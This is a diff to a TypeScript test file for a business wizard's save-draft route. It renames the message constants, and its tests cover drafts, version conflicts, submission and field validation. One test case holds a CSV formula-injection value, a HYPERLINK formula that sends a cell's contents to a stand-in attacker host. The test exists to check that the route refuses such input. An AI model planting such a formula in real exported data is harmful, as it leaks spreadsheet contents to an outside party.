@@ -2,12 +2,13 @@ import { afterAll, beforeEach, describe, expect, it } from 'vitest';
 import { keys } from '../../functions/db/keys.js';
 import { permissionsFor } from '../../infra/lib/permissions.js';
 import { addDays, dayIn, DEFAULT_TIME_ZONE } from '../../functions/core/dates.js';
-import { BUSINESS_STATUS, MESSAGES, PERPETUAL_DATE } from '../../shared/constants.js';
+import { BUSINESS_STATUS, PERPETUAL_DATE } from '../../shared/constants.js';
 import { formulaMessage } from '../../shared/partner-rules.js';
 import { usFromIso } from '../../shared/us-dates.js';
 import { routes, type RoutePath } from '../../shared/routes.js';
 import { DRAFT_END, sampleDraft } from '../support/business-draft.js';
 import { callRoute, FIXTURE, installIamHarness } from '../support/iam-harness.js';
+import { PARTNERS_MESSAGES } from '../../shared/schemas/partners-messages.js';
 
 // The business wizard's routes under their own IAM roles: what the wizard reads first, a draft
 // saved and resumed, two tabs' saves merged, Send for Approval writing the partner into the
@@ -55,7 +56,7 @@ describe('tbp/savebusinesstemp', () => {
     const draft = sampleDraft('bp-save-1');
     const res = await save(draft);
     expect(harness.refusals).toEqual([]);
-    expect(res.body).toMatchObject({ success: true, message: MESSAGES.draftSaved, version: 1, status: BUSINESS_STATUS.draft });
+    expect(res.body).toMatchObject({ success: true, message: PARTNERS_MESSAGES.draftSaved, version: 1, status: BUSINESS_STATUS.draft });
     const resumed = await call('tbp/getbusinessdraft', {});
     expect(resumed.body).toMatchObject({ success: true, business: { version: 1, status: 99, draft: { bpId: 'bp-save-1', businessInfo: { businessName: 'Sample Bakery' } } } });
     expect((resumed.body.business as { draft: { memberInfo: unknown } }).draft.memberInfo).toEqual({
@@ -104,8 +105,8 @@ describe('tbp/savebusinesstemp', () => {
   it('refuses a save from an older version that does not say what it loaded, and writes nothing', async () => {
     expect((await save(sampleDraft('bp-stale-2', { city: 'Lawrence' }))).body.version).toBe(1);
     const res = await save(sampleDraft('bp-stale-2', { city: '' }));
-    expect(res).toMatchObject({ status: 409, body: { message: MESSAGES.draftChangedElsewhere } });
-    expect(await save(sampleDraft('bp-stale-2', { city: '' }), { version: 0 })).toMatchObject({ status: 409, body: { message: MESSAGES.draftChangedElsewhere } });
+    expect(res).toMatchObject({ status: 409, body: { message: PARTNERS_MESSAGES.draftChangedElsewhere } });
+    expect(await save(sampleDraft('bp-stale-2', { city: '' }), { version: 0 })).toMatchObject({ status: 409, body: { message: PARTNERS_MESSAGES.draftChangedElsewhere } });
     const resumed = (await call('tbp/getbusinessdraft', {})).body as { business: { version: number; draft: ReturnType<typeof sampleDraft> } };
     expect(resumed.business).toMatchObject({ version: 1, draft: { businessInfo: { city: 'Lawrence' } } });
   });
@@ -114,7 +115,7 @@ describe('tbp/savebusinesstemp', () => {
     const draft = sampleDraft('bp-submit');
     const res = await save(draft, { submit: true });
     expect(harness.refusals).toEqual([]);
-    expect(res.body).toMatchObject({ success: true, message: MESSAGES.draftSubmitted, status: BUSINESS_STATUS.inReview });
+    expect(res.body).toMatchObject({ success: true, message: PARTNERS_MESSAGES.draftSubmitted, status: BUSINESS_STATUS.inReview });
     const stored = (res.body as { draft: ReturnType<typeof sampleDraft> }).draft;
     const dealId = stored.offers[0]!.databaseId!;
     const locationId = stored.locations[0]!.databaseId!;
@@ -126,18 +127,18 @@ describe('tbp/savebusinesstemp', () => {
       ]),
     );
     expect(harness.mails).toEqual([{ to: [FIXTURE.email], subject: 'Sample Bakery was sent to Prairie Sky Electric for approval' }]);
-    expect(await save(draft, { version: 1 })).toMatchObject({ status: 409, body: { message: MESSAGES.draftLocked } });
+    expect(await save(draft, { version: 1 })).toMatchObject({ status: 409, body: { message: PARTNERS_MESSAGES.draftLocked } });
   });
 
   it.each([
-    ['a blank business name', sampleDraft('bp-bad', { businessName: ' ' }), MESSAGES.bizName],
-    ['a state that is not one', sampleDraft('bp-bad', { state: 'XX' }), MESSAGES.bizState],
-    ['a ZIP of four digits', sampleDraft('bp-bad', { zip: '6604' }), MESSAGES.bizZipInvalid],
-    ['a phone without the mask', sampleDraft('bp-bad', { phone: '7855550142' }), MESSAGES.bizPhoneInvalid],
-    ['an email without a domain', sampleDraft('bp-bad', { email: 'owner@' }), MESSAGES.bizEmailInvalid],
-    ['no offers', { ...sampleDraft('bp-bad'), offers: [] }, MESSAGES.submitNeedsOffer],
-    ['no enabled location', { ...sampleDraft('bp-bad'), locations: [{ ...sampleDraft('bp-bad').locations[0]!, status: 0 as const }] }, MESSAGES.submitNeedsLocation],
-    ['an offer without a channel', { ...sampleDraft('bp-bad'), offers: [{ ...sampleDraft('bp-bad').offers[0]!, isPrinted: 0 as const, isMobile: 0 as const }] }, MESSAGES.offerChannel],
+    ['a blank business name', sampleDraft('bp-bad', { businessName: ' ' }), PARTNERS_MESSAGES.bizName],
+    ['a state that is not one', sampleDraft('bp-bad', { state: 'XX' }), PARTNERS_MESSAGES.bizState],
+    ['a ZIP of four digits', sampleDraft('bp-bad', { zip: '6604' }), PARTNERS_MESSAGES.bizZipInvalid],
+    ['a phone without the mask', sampleDraft('bp-bad', { phone: '7855550142' }), PARTNERS_MESSAGES.bizPhoneInvalid],
+    ['an email without a domain', sampleDraft('bp-bad', { email: 'owner@' }), PARTNERS_MESSAGES.bizEmailInvalid],
+    ['no offers', { ...sampleDraft('bp-bad'), offers: [] }, PARTNERS_MESSAGES.submitNeedsOffer],
+    ['no enabled location', { ...sampleDraft('bp-bad'), locations: [{ ...sampleDraft('bp-bad').locations[0]!, status: 0 as const }] }, PARTNERS_MESSAGES.submitNeedsLocation],
+    ['an offer without a channel', { ...sampleDraft('bp-bad'), offers: [{ ...sampleDraft('bp-bad').offers[0]!, isPrinted: 0 as const, isMobile: 0 as const }] }, PARTNERS_MESSAGES.offerChannel],
     // Free text that would run as a formula in the co-op's CSV reports.
     ['a business name that is a formula', sampleDraft('bp-bad', { businessName: '=HYPERLINK("https://evil.example/?"&A3,"Open")' }), formulaMessage('businessName')],
     ['a website starting with +', sampleDraft('bp-bad', { website: '+evil.example' }), formulaMessage('website')],
@@ -145,11 +146,11 @@ describe('tbp/savebusinesstemp', () => {
     ['an offer description starting with -', { ...sampleDraft('bp-bad'), offers: [{ ...sampleDraft('bp-bad').offers[0]!, description: '-20% off' }] }, formulaMessage('description')],
     ['special instructions starting with a tab', { ...sampleDraft('bp-bad'), offers: [{ ...sampleDraft('bp-bad').offers[0]!, stubCopy: '\t=1+1' }] }, formulaMessage('stubCopy')],
     // Issue 22, 2: an offer's expiry and dollar value, each refused with what is wrong.
-    ['an offer that expired on 01/01/2020', withOffer({ endDate: '01/01/2020' }), MESSAGES.offerExpirationPast],
-    ['an expiry that is no date (13/45/2020)', withOffer({ endDate: '13/45/2020' }), MESSAGES.offerExpirationInvalid],
-    ['an expiry on a day February lacks (02/30/2027)', withOffer({ endDate: '02/30/2027' }), MESSAGES.offerExpirationInvalid],
-    ['a dollar value that is no number', withOffer({ dollarValue: 'abc' as unknown as number }), MESSAGES.offerDollarInvalid],
-    ['a dollar value of -5', withOffer({ dollarValue: -5 }), MESSAGES.offerDollarInvalid],
+    ['an offer that expired on 01/01/2020', withOffer({ endDate: '01/01/2020' }), PARTNERS_MESSAGES.offerExpirationPast],
+    ['an expiry that is no date (13/45/2020)', withOffer({ endDate: '13/45/2020' }), PARTNERS_MESSAGES.offerExpirationInvalid],
+    ['an expiry on a day February lacks (02/30/2027)', withOffer({ endDate: '02/30/2027' }), PARTNERS_MESSAGES.offerExpirationInvalid],
+    ['a dollar value that is no number', withOffer({ dollarValue: 'abc' as unknown as number }), PARTNERS_MESSAGES.offerDollarInvalid],
+    ['a dollar value of -5', withOffer({ dollarValue: -5 }), PARTNERS_MESSAGES.offerDollarInvalid],
   ])('refuses to send %s, writing nothing', async (_what, draft, message) => {
     const res = await save(draft, { submit: true });
     expect(res).toMatchObject({ status: 400, body: { success: false, message } });
@@ -162,7 +163,7 @@ describe('tbp/savebusinesstemp', () => {
     // The harness co-op keeps the default zone, as a co-op whose staff set none.
     const today = dayIn(Date.now(), DEFAULT_TIME_ZONE);
     const yesterday = { ...sampleDraft('bp-day'), offers: [{ ...sampleDraft('bp-day').offers[0]!, endDate: usFromIso(addDays(today, -1)) }] };
-    expect(await save(yesterday, { submit: true })).toMatchObject({ status: 400, body: { message: MESSAGES.offerExpirationPast } });
+    expect(await save(yesterday, { submit: true })).toMatchObject({ status: 400, body: { message: PARTNERS_MESSAGES.offerExpirationPast } });
     const ok = { ...sampleDraft('bp-day'), offers: [{ ...sampleDraft('bp-day').offers[0]!, endDate: usFromIso(today) }, { ...sampleDraft('bp-day').offers[0]!, id: 'offer-2', endDate: PERPETUAL_DATE }] };
     ok.locations = [{ ...ok.locations[0]!, offers: ['offer-1', 'offer-2'] }];
     const res = await save(ok, { submit: true });
@@ -171,6 +172,6 @@ describe('tbp/savebusinesstemp', () => {
 
   it('refuses a request whose id is not its draft\'s', async () => {
     const draft = sampleDraft('bp-one');
-    expect(await call('tbp/savebusinesstemp', { businessName: 'x', id: 'bp-two', json: draft })).toMatchObject({ status: 400, body: { message: MESSAGES.draftIdMismatch } });
+    expect(await call('tbp/savebusinesstemp', { businessName: 'x', id: 'bp-two', json: draft })).toMatchObject({ status: 400, body: { message: PARTNERS_MESSAGES.draftIdMismatch } });
   });
 });
